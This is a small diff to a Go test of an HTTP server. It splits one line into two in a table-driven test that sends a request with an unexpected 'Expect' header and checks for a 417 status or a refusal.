@@ -1625,7 +1685,8 @@ func TestWhatIsNoRequestIsRefused(t *testing.T) {
 		{"an expectation", "GET /users/alice HTTP/1.1\r\nHost: x\r\nExpect: cookies\r\n\r\n", []int{417}},
 	} {
 		t.Run(c.what, func(t *testing.T) {
-			if answer := a.send(address, c.text); !slices.Contains(c.statuses, answer.status) || !refuses(answer) && answer.status != 417 {
+			answer := a.send(address, c.text)
+			if !slices.Contains(c.statuses, answer.status) || !refuses(answer) && answer.status != 417 {
 				t.Errorf("it is answered with %d %v %.300s, want one of %v", answer.status, answer.header, answer.body, c.statuses)
 			}
 		})
